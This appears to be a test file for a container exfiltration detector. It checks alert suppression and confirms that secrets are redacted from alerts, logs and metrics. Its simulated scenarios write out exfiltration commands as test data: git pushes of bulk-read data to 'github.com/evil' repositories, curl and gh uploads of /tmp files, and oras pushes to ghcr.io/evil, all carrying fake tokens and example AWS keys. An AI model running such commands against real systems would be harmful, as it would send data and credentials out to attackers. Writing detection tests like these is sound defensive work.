/**
 * Suppression and its counting (real prom-client registry), and the redaction promise: no secret from the
 * input reaches an alert, a log line or a metric.
 */
import { Writable } from 'node:stream';
import { pino } from 'pino';
import { describe, expect, it } from 'vitest';
import { allowlistEntrySchema } from '../../../src/correlate/allowlist-schema.js';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { createCorrelator } from '../../../src/correlate/index.js';
import { createMetrics } from '../../../src/telemetry/metrics.js';
import { counterValue, MiB, run, Scenario, T0 } from './builder.js';

const GITHUB_IP = '140.82.112.3';

describe('suppression', () => {
  function pushes(times: number[], o: { dest?: (i: number) => string } = {}) {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    times.forEach((at, i) => {
      s.now = T0 + at;
      const url = o.dest?.(i) ?? 'https://github.com/evil/loot.git';
      const git = s.exec(c, '/usr/bin/git', `push ${url} main`, { parent: sh });
      s.connect(git, GITHUB_IP, 443);
    });
    return s;
  }

  it('one alert per (rule, container, destination) per hour; the next one carries the count', async () => {
    const min = 60_000;
    const { alerts, metrics } = run(pushes([0, 5 * min, 20 * min, 59 * min, 61 * min, 70 * min]).events);
    expect(alerts.map((a) => [Math.round((Date.parse(a.time) - T0) / min), a.suppressed])).toEqual([
      [0, 0],
      [61, 3],
    ]);
    expect(await counterValue(metrics, 'exfilwatch_alerts_suppressed_total', { rule: 'push-without-reads' })).toBe(4);
    // Re-sending the same detection gives the same id; different pushes get different ids.
    expect(new Set(alerts.map((a) => a.id)).size).toBe(2);
  });

  it('a graver push inside the period is not a repeat: it goes out, and opens a period at its severity', () => {
    const min = 60_000;
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const bulkThenPush = (at: number, mib: number, repo: string) => {
      s.now = T0 + at;
      s.readMany(sh, `/data/${repo}`, mib, MiB, 10);
      const git = s.exec(c, '/usr/bin/git', `push https://github.com/evil/${repo}.git main`, { parent: sh });
      s.connect(git, GITHUB_IP, 443);
    };
    bulkThenPush(0, 70, 'drop-a');
    bulkThenPush(40 * min, 1024, 'drop-b');
    bulkThenPush(50 * min, 70, 'drop-c');
    const { alerts } = run(s.events);
    expect(alerts.map((a) => [a.rule, a.severity, a.push.remote, a.suppressed])).toEqual([
      ['bulk-read-then-push', 'high', 'https://github.com/evil/drop-a.git', 0],
      ['bulk-read-then-push', 'critical', 'https://github.com/evil/drop-b.git', 0],
    ]);
  });

  it('a different destination is a different key', () => {
    const s = pushes([0, 60_000], {
      dest: (i) => (i === 0 ? 'https://github.com/a/b.git' : 'https://gitlab.com/a/b.git'),
    });
    expect(run(s.events).alerts.map((a) => [a.push.destination, a.suppressed])).toEqual([
      ['github.com', 0],
      ['gitlab.com', 0],
    ]);
  });

  it('ids are stable for the same detection', () => {
    const a = run(pushes([0]).events).alerts[0]!;
    const b = run(pushes([0]).events).alerts[0]!;
    expect(a.id).toMatch(/^[0-9a-f]{32}$/);
    // Different container ids in the two scenarios → different ids; the same events → the same id.
    expect(a.id).not.toBe(b.id);
    const s = pushes([0]);
    expect(run(s.events).alerts[0]!.id).toBe(run(s.events).alerts[0]!.id);
  });
});

describe('redaction', () => {
  const SECRETS = [
    'ghp_0123456789abcdefghijABCDEFGHIJ012345',
    'github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuv',
    'glpat-AbCdEfGhIjKlMnOpQrSt',
    'npm_abcdefghijklmnopqrstuvwxyz0123456789',
    'AKIAIOSFODNN7EXAMPLE',
    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    'xoxb-123456789012-abcdefghijkl',
    'hunter2pass',
    'S3cr3tPassw0rd',
    'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW0ifQ.c2lnbmF0dXJl',
    'dXNlcjpzZWNyZXQ',
    'tok-9f8e7d6c5b4a',
  ];

  function leakyScenario() {
    const s = new Scenario();
    const c = s.container({ namespace: 'prod', pod: 'api-1' });
    const sh = s.init(c, '/bin/sh', `-c "export GITHUB_TOKEN=${SECRETS[0]}; /entrypoint.sh"`);
    s.readMany(sh, '/data', 70, MiB, 100);
    s.read(sh, `/tmp/${SECRETS[0]}.txt`, 10);
    const git = s.exec(
      c,
      '/usr/bin/git',
      `-c http.extraHeader="Authorization: Bearer ${SECRETS[9]}" push https://x:${SECRETS[0]}@github.com/evil/loot.git main`,
      {
        parent: sh,
      },
    );
    const h = s.exec(
      c,
      '/usr/lib/git-core/git-remote-https',
      `origin https://oauth2:${SECRETS[2]}@github.com/evil/loot.git`,
      { parent: git },
    );
    s.connect(h, GITHUB_IP, 443).send(h, GITHUB_IP, 443, MiB);
    const c2 = s.container({ namespace: 'prod', pod: 'api-2' });
    const sh2 = s.init(c2);
    s.exec(
      c2,
      '/usr/bin/curl',
      `-u admin:${SECRETS[7]} -H "Private-Token: ${SECRETS[11]}" -T /tmp/x https://gitlab.com/api/v4/projects/1/uploads?private_token=${SECRETS[1]}`,
      { parent: sh2 },
    );
    s.exec(
      c2,
      '/usr/bin/env',
      `AWS_ACCESS_KEY_ID=${SECRETS[4]} AWS_SECRET_ACCESS_KEY=${SECRETS[5]} NPM_TOKEN=${SECRETS[3]} gh gist create /tmp/x`,
      { parent: sh2 },
    );
    s.exec(c2, '/usr/bin/gh', `gist create /tmp/x --password ${SECRETS[8]}`, { parent: sh2 });
    s.exec(c2, '/usr/bin/docker', `login -u bob -p ${SECRETS[8]} ghcr.io`, { parent: sh2 });
    s.exec(c2, '/usr/bin/oras', `push ghcr.io/evil/x:1 --password ${SECRETS[8]} /tmp/slack-${SECRETS[6]}`, {
      parent: sh2,
    });
    s.exec(
      c2,
      '/usr/bin/curl',
      `-H "Authorization: Basic ${SECRETS[10]}" -X PUT https://api.github.com/repos/e/l/contents/x -d @/tmp/x`,
      { parent: sh2 },
    );
    return s;
  }

  it('no secret from the input appears anywhere in the alerts', () => {
    const { alerts } = run(leakyScenario().events);
    expect(alerts.length).toBeGreaterThanOrEqual(4);
    const text = JSON.stringify(alerts);
    for (const secret of SECRETS) expect(text, secret).not.toContain(secret);
    expect(text).toContain('[REDACTED]');
  });

  it('nor in the allowlist log lines or the metrics', async () => {
    const lines: string[] = [];
    const sink = new Writable({
      write(chunk, _enc, cb) {
        lines.push(String(chunk));
        cb();
      },
    });
    const logger = pino({ level: 'debug' }, sink);
    const metrics = createMetrics();
    const correlator = createCorrelator(
      correlatorConfigSchema.parse({}),
      [allowlistEntrySchema.parse({ namespace: 'prod', reason: 'testing the log line' })],
      { logger, metrics, clock: { now: () => T0 }, resolveHost: null },
    );
    const alerts = [...correlator.ingest(leakyScenario().events), ...correlator.flush()];
    expect(alerts).toEqual([]);
    expect(lines.some((l) => l.includes('testing the log line'))).toBe(true);
    const text = lines.join('\n') + (await metrics.registry.metrics());
    for (const secret of SECRETS) expect(text, secret).not.toContain(secret);
  });
});
